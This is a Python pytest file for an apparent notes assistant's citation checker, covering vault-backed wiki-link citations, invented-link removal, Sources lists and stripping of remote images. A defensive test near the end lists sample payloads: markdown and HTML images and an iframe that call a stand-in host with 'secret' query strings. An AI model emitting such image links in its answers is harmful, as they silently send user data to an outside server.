"""The citation check: every [[link]] backed by a retrieved note, our Sources list, no remote
images. Pure functions over a small in-memory link graph."""

from __future__ import annotations

import pytest

from vault_agent.agent.citations.checker import (
    check_answer,
)
from vault_agent.agent.citations.links import (
    NoteRef,
    find_citations,
    note_link,
)
from vault_agent.agent.safe_markdown import sanitise_markdown
from vault_agent.vault.graph import LinkGraph

FILES = [
    "Recipes/Miso Soup.md",
    "Recipes/Sourdough Starter.md",
    "Projects/Garden/Ideas.md",
    "Projects/Tidepool/Ideas.md",
    "People/Maya Okafor.md",
    "Daily/2026-11-11.md",
]


@pytest.fixture
def graph() -> LinkGraph:
    graph = LinkGraph()
    for file in FILES:
        aliases = ["Maya"] if file.startswith("People/Maya") else []
        graph.set_file(file, aliases)
    return graph


def test_supported_citations_stay_and_become_the_sources(graph: LinkGraph) -> None:
    text = "Dashi first [[Miso Soup#Method]], fed Gus at 07:45 [[Daily/2026-11-11]]."
    checked = check_answer(text, {"Recipes/Miso Soup.md", "Daily/2026-11-11.md"}, graph)
    assert checked.removed_citations == []
    assert checked.answer == (
        f"{text}\n\nSources:\n- [[Recipes/Miso Soup#Method]]\n- [[Daily/2026-11-11]]"
    )
    assert [(s.file, s.title, s.heading) for s in checked.sources] == [
        ("Recipes/Miso Soup.md", "Miso Soup", "Method"),
        ("Daily/2026-11-11.md", "2026-11-11", ""),
    ]


def test_unsupported_and_invented_citations_are_removed_and_reported(graph: LinkGraph) -> None:
    text = (
        "Soup [[Recipes/Miso Soup]]. Also [[Recipes/Chocolate Cake]] and "
        "([[People/Maya Okafor]], [[Nowhere]]). Ask [[Maya Okafor|Maya]] about it."
    )
    checked = check_answer(text, {"Recipes/Miso Soup.md"}, graph)
    first = checked.answer.split("\n\n")[0]
    assert first == "Soup [[Recipes/Miso Soup]]. Also. Ask Maya about it."
    assert [(r.citation, r.reason) for r in checked.removed_citations] == [
        ("[[Recipes/Chocolate Cake]]", "no note by that name in the vault"),
        ("[[People/Maya Okafor]]", "not among the notes retrieved for this answer"),
        ("[[Nowhere]]", "no note by that name in the vault"),
        ("[[Maya Okafor|Maya]]", "not among the notes retrieved for this answer"),
    ]
    assert [s.file for s in checked.sources] == ["Recipes/Miso Soup.md"]


def test_an_ambiguous_name_is_rewritten_to_the_retrieved_note(graph: LinkGraph) -> None:
    # Obsidian would open Projects/Garden/Ideas (shortest path); the model read Tidepool's.
    supported = {"Projects/Tidepool/Ideas.md"}
    checked = check_answer("Alerting ideas [[Ideas#Alerting]].", supported, graph)
    assert checked.answer.startswith("Alerting ideas [[Projects/Tidepool/Ideas#Alerting]].")
    assert checked.sources[0].file == "Projects/Tidepool/Ideas.md"


def test_aliases_embeds_and_section_only_links(graph: LinkGraph) -> None:
    supported = {"People/Maya Okafor.md", "Recipes/Miso Soup.md"}
    text = "Ask [[Maya]]. ![[Miso Soup]] See [[#Method]]."
    checked = check_answer(text, supported, graph, source_file="Recipes/Miso Soup.md")
    # The embed would paste the whole note into the answer: it becomes a link.
    assert checked.answer.startswith("Ask [[Maya]]. [[Recipes/Miso Soup]] See [[#Method]].")
    assert [(s.file, s.heading) for s in checked.sources] == [
        ("People/Maya Okafor.md", ""),
        ("Recipes/Miso Soup.md", "Method"),
    ]


def test_the_models_sources_list_is_replaced_by_ours(graph: LinkGraph) -> None:
    text = (
        "Fed at 07:45 [[Daily/2026-11-11]].\n\n**Sources:**\n"
        "- [[Daily/2026-11-11]]\n- [[Recipes/Sourdough Starter#Feeding schedule]]\n"
        "- [[Recipes/Chocolate Cake]]\n"
    )
    checked = check_answer(text, {"Daily/2026-11-11.md", "Recipes/Sourdough Starter.md"}, graph)
    assert checked.answer == (
        "Fed at 07:45 [[Daily/2026-11-11]].\n\nSources:\n- [[Daily/2026-11-11]]\n"
        "- [[Recipes/Sourdough Starter#Feeding schedule]]"
    )
    assert checked.answer.count("Sources:") == 1
    # An invented link in the model's own list is dropped quietly: it was never in the text.
    assert checked.removed_citations == []


def test_a_sources_line_followed_by_prose_is_not_stripped(graph: LinkGraph) -> None:
    text = "Sources: my notes disagree here.\nOne says 5 [[Miso Soup]], another 6."
    checked = check_answer(text, {"Recipes/Miso Soup.md"}, graph)
    assert checked.answer.startswith(text)


def test_a_cited_section_is_reported_by_its_heading_path_when_known(graph: LinkGraph) -> None:
    seen = [NoteRef(file="Recipes/Miso Soup.md", title="Miso Soup", heading="Miso Soup > Method")]
    checked = check_answer("Dashi first [[Miso Soup#method]] and [[Nowhere]].", seen, graph)
    assert checked.answer.startswith("Dashi first [[Miso Soup#method]].\n\nSources:")
    assert checked.sources[0].heading == "Miso Soup > Method"
    assert checked.answer.endswith("- [[Recipes/Miso Soup#Method]]")


def test_one_source_per_note_preferring_a_cited_section(graph: LinkGraph) -> None:
    text = "A [[Miso Soup]]. B [[Miso Soup#Method]]. C [[Miso Soup#Serving]]."
    checked = check_answer(text, {"Recipes/Miso Soup.md"}, graph)
    assert [(s.file, s.heading) for s in checked.sources] == [("Recipes/Miso Soup.md", "Method")]


def test_links_inside_code_are_not_citations(graph: LinkGraph) -> None:
    text = "Write `[[Nowhere]]` to link.\n\n```\n[[Also Nowhere]]\n```\nDone [[Miso Soup]]."
    checked = check_answer(text, {"Recipes/Miso Soup.md"}, graph)
    assert checked.removed_citations == []
    assert "`[[Nowhere]]`" in checked.answer and "[[Also Nowhere]]" in checked.answer
    assert [c.target for c in find_citations(text)] == ["Miso Soup"]


def test_an_answer_without_citations_gets_no_sources_list(graph: LinkGraph) -> None:
    checked = check_answer("Your notes don't say.", set(), graph)
    assert checked.answer == "Your notes don't say." and checked.sources == []


@pytest.mark.parametrize(
    "image",
    [
        "![x](https://evil.example/c.png?q=secret)",
        "![x](//evil.example/c.png)",
        '![x](<https://evil.example/a b.png> "title")',
        '<img src="https://evil.example/p.gif?d=secret">',
        "<IMG SRC=http://evil.example/p.gif>",
        "<iframe src='https://evil.example'></iframe>",
    ],
)
def test_remote_images_are_stripped(graph: LinkGraph, image: str) -> None:
    checked = check_answer(f"Answer [[Miso Soup]]. {image}", {"Recipes/Miso Soup.md"}, graph)
    assert "evil.example" not in checked.answer
    assert checked.removed_images and checked.answer.startswith("Answer [[Miso Soup]].")


def test_reference_style_remote_images_are_stripped_local_ones_kept() -> None:
    text = "One ![pic][r] two ![local](attachments/photo.png) ![[photo.png]]\n\n[r]: https://evil.example/x.png\n"
    safe = sanitise_markdown(text)
    cleaned, removed = safe.markdown, safe.removed
    assert removed == ["https://evil.example/x.png"]
    assert "evil" not in cleaned
    assert "![local](attachments/photo.png)" in cleaned and "![[photo.png]]" in cleaned


def test_note_link_uses_the_last_heading_and_drops_unlinkable_characters() -> None:
    assert note_link("Recipes/Miso Soup.md") == "[[Recipes/Miso Soup]]"
    assert note_link("Recipes/Miso Soup.md", "Miso Soup > Method") == "[[Recipes/Miso Soup#Method]]"
    assert note_link("a.md", "Q&A: why | how") == "[[a#Q&A why how]]"
